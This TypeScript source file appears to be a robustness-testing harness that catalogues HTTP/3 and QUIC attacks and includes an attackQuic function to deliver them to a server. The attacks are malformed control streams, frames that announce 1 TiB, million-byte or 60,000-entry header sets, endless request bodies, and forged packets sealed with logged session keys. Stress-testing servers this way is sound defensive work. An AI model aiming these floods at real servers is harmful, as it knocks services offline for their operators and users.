import { randomBytes } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { setTimeout as sleep } from 'node:timers/promises'
import { encodeFrame, FRAME } from '../../crawler/quic/frames.ts'
import { encodeFieldSection } from '../../crawler/quic/qpack-encode.ts'
import { quiche } from '../../crawler/quic/quiche.ts'
import type { Connection } from '../../crawler/quic/quiche-binding.ts'
import { encodeVarint } from '../../crawler/quic/varint.ts'
import { KeyLog } from '../../lab/sandbox/zoo/key-log.ts'
import { FLOOD_PAYLOADS } from '../../lab/sandbox/zoo/quic-floods.ts'
import { sealShort } from '../../lab/sandbox/zoo/quic-packets.ts'

/** What a client does to a server once the handshake is done. */
interface Attack {
  /** Written to each stream over and over, as fast as the server lets it. */
  readonly pours?: ReadonlyMap<number, Buffer>
  /** Written to each stream before that, or once. */
  readonly writes?: ReadonlyMap<number, Buffer>
  /** Payloads of packets that quiche would never send. */
  readonly forges?: () => Iterable<Buffer>
}

/** Streams of a client (RFC 9000, 2.1). */
const [REQUEST, CONTROL, ENCODER] = [0, 2, 6]
const NO_SETTINGS = Buffer.concat([encodeVarint(0), encodeFrame(FRAME.settings, Buffer.alloc(0))])
const CHUNK = Buffer.alloc(16 * 1024, 'towline ')
const get = (...more: [string, string][]): Buffer =>
  encodeFrame(
    FRAME.headers,
    encodeFieldSection([
      [':method', 'GET'],
      [':scheme', 'https'],
      [':authority', 'a.test'],
      [':path', '/'],
      ...more,
    ]),
  )
/** The header of a frame that promises 1 TiB. */
const endlessFrame = (type: number): Buffer => Buffer.concat([encodeVarint(type), encodeVarint(2 ** 40)])
const greeted = (stream: number, bytes: Buffer) =>
  new Map([
    [CONTROL, NO_SETTINGS],
    [stream, bytes],
  ])
const onControl = (...frames: Buffer[]) => new Map([[CONTROL, Buffer.concat([encodeVarint(0), ...frames])]])

export const QUIC_ATTACKS: Readonly<Record<string, Attack>> = {
  'garbage on the control stream': { writes: onControl(randomBytes(2_000)) },
  'SETTINGS twice': { writes: onControl(NO_SETTINGS.subarray(1), NO_SETTINGS.subarray(1)) },
  'SETTINGS of 1 TiB': {
    writes: onControl(endlessFrame(FRAME.settings)),
    pours: new Map([[CONTROL, CHUNK]]),
  },
  'endless empty frames on the control stream': {
    writes: onControl(NO_SETTINGS.subarray(1)),
    pours: new Map([[CONTROL, encodeFrame(0x21, Buffer.alloc(0))]]),
  },
  'an unknown frame of 1 TiB on the control stream': {
    writes: onControl(NO_SETTINGS.subarray(1), endlessFrame(0x21)),
    pours: new Map([[CONTROL, CHUNK]]),
  },
  'garbage on the QPACK encoder’s stream': {
    writes: greeted(ENCODER, encodeVarint(2)),
    pours: new Map([[ENCODER, randomBytes(1_024)]]),
  },
  'garbage for a request': { writes: greeted(REQUEST, randomBytes(20_000)) },
  'DATA before HEADERS': { writes: greeted(REQUEST, encodeFrame(FRAME.data, CHUNK)) },
  'HEADERS of 1 TiB': {
    writes: greeted(REQUEST, endlessFrame(FRAME.headers)),
    pours: new Map([[REQUEST, CHUNK]]),
  },
  'fields of 1 MB': { writes: greeted(REQUEST, get(['x-big', 'x'.repeat(1_000_000)])) },
  '60,000 fields': { writes: greeted(REQUEST, get(...Array<[string, string]>(60_000).fill(['x', 'y']))) },
  'a body without an end': {
    writes: greeted(REQUEST, get()),
    pours: new Map([[REQUEST, encodeFrame(FRAME.data, CHUNK)]]),
  },
  'a hundred bodies without an end': {
    writes: new Map([
      [CONTROL, NO_SETTINGS],
      ...Array.from({ length: 100 }, (_, n) => [4 * n, get()] as const),
    ]),
    pours: new Map(Array.from({ length: 100 }, (_, n) => [4 * n, encodeFrame(FRAME.data, CHUNK)] as const)),
  },
  'an unknown frame of 1 TiB in a request': {
    writes: greeted(REQUEST, Buffer.concat([get(), endlessFrame(0x21)])),
    pours: new Map([[REQUEST, CHUNK]]),
  },
  'a hundred requests that never end': {
    writes: new Map([
      [CONTROL, NO_SETTINGS],
      ...Array.from({ length: 100 }, (_, n) => [4 * n, get()] as const),
    ]),
  },
  ...Object.fromEntries(
    Object.entries(FLOOD_PAYLOADS).map(([name, forges]) => [name, { forges } satisfies Attack]),
  ),
}

const SOURCE_ID_BYTES = 16
/** Beyond what quiche has numbered so far. */
const FIRST_FORGED = 1_000
const BATCH = 50

/** Attacks a QUIC server until it closes the connection, or the time is over. Resolves to whether it was let in at all. */
export async function attackQuic(
  { address, port }: { readonly address: string; readonly port: number },
  attack: Attack,
  limitMs: number,
): Promise<boolean> {
  const config = quiche().Config.withBoringSslCtx(false, false, null)
  config.setApplicationProtos(['h3'])
  config.setInitialMaxData(1_000_000)
  config.setInitialMaxStreamDataBidiLocal(1_000_000)
  config.setInitialMaxStreamDataUni(1_000_000)
  config.setInitialMaxStreamsUni(16)
  config.logKeys()
  const socket = createSocket('udp4').bind(0, '127.0.0.1')
  // The server’s ICMP answers, where it is gone.
  socket.on('error', () => {})
  await once(socket, 'listening')
  const local = { host: '127.0.0.1', port: socket.address().port }
  const remote = { host: address, port }
  const connection = quiche().Connection.connect(
    'a.test',
    randomBytes(SOURCE_ID_BYTES),
    local,
    remote,
    config,
  )
  using keyLog = new KeyLog(connection)
  let serverId = Buffer.alloc(0)
  socket.on('message', (datagram) => {
    // A long header says by which id the server wants to be called.
    if (((datagram[0] ?? 0) & 0x80) !== 0)
      serverId = Buffer.from(quiche().Header.fromSlice(datagram, SOURCE_ID_BYTES).scid)
    try {
      connection.recv(datagram, { from: remote, to: local })
    } catch {
      // The server has answered in kind.
    }
  })
  const end = performance.now() + limitMs
  let isIn = false
  let forged: Iterator<Buffer> | null = null
  let packetNumber = FIRST_FORGED
  const keys = () => keyLog.keysOf('CLIENT')
  let clientKeys: ReturnType<typeof keys> = null
  while (!connection.isClosed() && !connection.isDraining() && performance.now() < end) {
    if (!isIn && connection.isEstablished()) {
      isIn = true
      for (const [stream, bytes] of attack.writes ?? []) write(connection, stream, bytes)
      forged = attack.forges?.()[Symbol.iterator]() ?? null
      clientKeys = forged === null ? null : keys()
    }
    if (isIn) for (const [stream, bytes] of attack.pours ?? []) write(connection, stream, bytes)
    if (forged === null || clientKeys === null)
      flush(connection, (datagram) => socket.send(datagram, port, address))
    else
      for (let count = 0; count < BATCH; count += 1) {
        const next = forged.next()
        if (next.done === true) break
        socket.send(sealShort(clientKeys, serverId, packetNumber, next.value), port, address)
        packetNumber += 1
      }
    await sleep(1)
    if (connection.timeout() === 0) connection.onTimeout()
  }
  socket.close()
  return isIn
}

/** What the server's windows have room for. */
function write(connection: Connection, stream: number, bytes: Buffer): void {
  try {
    connection.streamSend(stream, bytes, false)
  } catch {
    // The server has stopped reading it.
  }
}

const SCRATCH = Buffer.alloc(64 * 1024)
function flush(connection: Connection, send: (datagram: Buffer) => void): void {
  for (let sent = connection.send(SCRATCH); sent !== null; sent = connection.send(SCRATCH))
    send(Buffer.from(SCRATCH.subarray(0, sent[0])))
}
